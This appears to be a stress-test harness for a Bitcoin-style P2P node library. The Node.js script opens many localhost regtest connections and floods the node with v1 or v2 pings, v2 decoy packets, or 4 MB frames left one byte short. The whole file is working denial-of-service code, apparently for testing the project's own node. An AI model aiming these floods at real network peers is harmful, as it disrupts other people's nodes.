/** The attacker: `node attacker.mjs ATTACK PEERS PORT`. Prints a line once its connections are established. */
import { Buffer } from 'node:buffer';
import { connect } from 'node:net';
import process from 'node:process';
import { setTimeout } from 'node:timers';
import { NETWORKS } from '../../dist/src/index.js';
import { createPacketEncoder, createV2Key, encodeFrame, encodeMessage } from '../../dist/src/wire/index.js';

const [, , attack, count, port] = process.argv;
const { magic } = NETWORKS.regtest;
const peers = Number(count);
const at = { host: '127.0.0.1', port: Number(port) };
const PING = { command: 'ping', nonce: '0000000000000001' };

/** Writes the bytes without end, and reads what comes. */
function pour(socket, bytes) {
  socket.on('data', () => undefined);
  socket.on('error', () => undefined);
  const more = () => {
    while (socket.writable && socket.write(bytes));
  };
  socket.on('drain', more);
  more();
}

const repeated = (frame, times) => Buffer.concat(Array(times).fill(Buffer.from(frame)));

function versionFrame() {
  const address = { services: '0000000000000000', ip: new Uint8Array(16), port: 0 };
  const payload = encodeMessage({
    ...{ command: 'version', version: 70016, services: address.services, timestamp: '0000000065000000' },
    ...{ addr_recv: address, addr_from: address, nonce: '00000000000000aa', start_height: 0, relay: false },
    user_agent: new Uint8Array(),
  });
  return encodeFrame(magic, 'version', payload);
}

/** A v1 connection with its handshake done. */
const v1 = () =>
  new Promise((resolve) => {
    const socket = connect(at);
    socket.on('error', () => resolve(undefined));
    socket.write(versionFrame());
    socket.write(encodeFrame(magic, 'verack', new Uint8Array()));
    socket.once('data', () => resolve(socket));
  });

async function pingsOverV1() {
  const frame = repeated(encodeFrame(magic, 'ping', encodeMessage(PING)), 2_000);
  const sockets = await Promise.all(Array.from({ length: peers }, v1));
  for (const socket of sockets) if (socket) pour(socket, frame);
}

/** Each holds all of a frame but its last byte; half of them before `version`. */
async function unfinished() {
  const frame = encodeFrame(magic, 'block', new Uint8Array(4_000_000)).subarray(0, -1);
  for (let n = 0; n < peers; n += 1) {
    const socket = n % 2 === 0 ? await v1() : connect(at);
    socket?.on('error', () => undefined);
    socket?.on('data', () => undefined);
    socket?.write(frame);
  }
}

const random = (size) => globalThis.crypto.getRandomValues(new Uint8Array(size));

/** One v2 connection: what comes behind the other side's key is not read. */
function v2(next) {
  const socket = connect(at);
  const key = createV2Key(random);
  let first = Buffer.alloc(0);
  socket.on('error', () => undefined);
  socket.write(key.ellswift);
  socket.on('data', (chunk) => {
    if (first.length >= 64) return;
    first = Buffer.concat([first, chunk]);
    if (first.length < 64) return;
    const keys = key.agree(Uint8Array.from(first.subarray(0, 64)), true, magic);
    const encoder = createPacketEncoder(keys.send, new Uint8Array());
    const version = encoder.message('version', versionFrame().subarray(24));
    const parts = [encoder.terminator, encoder.version(new Uint8Array()), version];
    socket.write(Buffer.concat([...parts, encoder.message('verack', new Uint8Array())]));
    next(socket, encoder);
  });
}

/** Packets are encrypted as they are sent: each has its own key stream. */
const overV2 = (packet) =>
  new Promise((resolve) => {
    let ready = 0;
    for (let n = 0; n < peers; n += 1)
      v2((socket, encoder) => {
        const more = () => {
          while (socket.writable && socket.write(repeatedly(() => packet(encoder))));
        };
        socket.on('drain', more);
        setTimeout(more, 500);
        if ((ready += 1) === peers) resolve();
      });
  });

const repeatedly = (make) => Buffer.concat(Array.from({ length: 500 }, make));

const ATTACKS = {
  decoys: () => overV2((encoder) => encoder.decoy(0)),
  'pings-v2': () => overV2((encoder) => encoder.message('ping', encodeMessage(PING))),
  'pings-v1': pingsOverV1,
  unfinished,
};

await ATTACKS[attack]();
console.log('attacking');
